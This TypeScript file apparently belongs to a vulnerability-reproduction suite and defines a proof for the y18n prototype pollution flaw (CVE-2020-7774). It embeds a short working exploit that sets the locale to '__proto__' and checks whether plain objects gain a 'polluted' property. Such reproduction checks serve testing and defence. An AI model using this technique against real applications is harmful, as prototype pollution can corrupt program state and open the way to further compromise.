import { defineProof } from '../define-proof.ts';

/** Updates the words of a locale that names the prototype and looks for one on a plain object. */
export const y18nLocale = defineProof({
  name: 'y18n-locale',
  ids: ['CVE-2020-7774', 'GHSA-c4w7-xm78-47vh'],
  ecosystem: 'npm',
  package: 'y18n',
  kind: 'prototype_pollution',
  describes: 'Updates the words of a locale that names the prototype and looks for one on a plain object.',
  shownOn: { vulnerable: '4.0.0', fixed: '4.0.1' },
  source: `
module.exports = ({ load }) => {
  const words = load()({ directory: 'none', updateFiles: false });
  words.setLocale('__proto__');
  try {
    words.updateLocale({ polluted: 'yes' });
  } catch {
    // Refusing is an answer as well.
  }
  const reproduced = ({}).polluted !== undefined;
  words.setLocale('en');
  words.updateLocale({ hello: 'hi' });
  return { reproduced, answers: words.__('hello') === 'hi' };
};
`,
});
